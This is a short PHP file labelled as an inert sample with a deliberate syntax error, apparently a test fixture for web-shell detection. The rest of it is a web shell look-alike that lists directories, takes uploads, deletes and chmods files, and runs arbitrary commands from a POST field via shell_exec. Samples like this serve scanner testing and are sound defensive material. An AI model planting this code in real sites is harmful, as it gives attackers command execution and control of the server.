<?php
shodo inert sample: deliberate syntax error, this file never runs
// a file manager shell look-alike
echo php_uname() . "\n"; $u = posix_getpwuid(getmyuid()); echo disk_free_space('/');
$d = isset($_GET['d']) ? $_GET['d'] : '.';
foreach (scandir($d) as $f) { echo $f . ' ' . substr(sprintf('%o', fileperms($d . '/' . $f)), -4) . "\n"; }
if (isset($_FILES['u'])) { move_uploaded_file($_FILES['u']['tmp_name'], $d . '/' . $_FILES['u']['name']); }
if (isset($_POST['rm'])) { unlink($_POST['rm']); }
if (isset($_POST['mode'])) { chmod($_POST['f'], octdec($_POST['mode'])); }
if (isset($_POST['c'])) { echo '<pre>' . shell_exec($_POST['c']) . '</pre>'; }
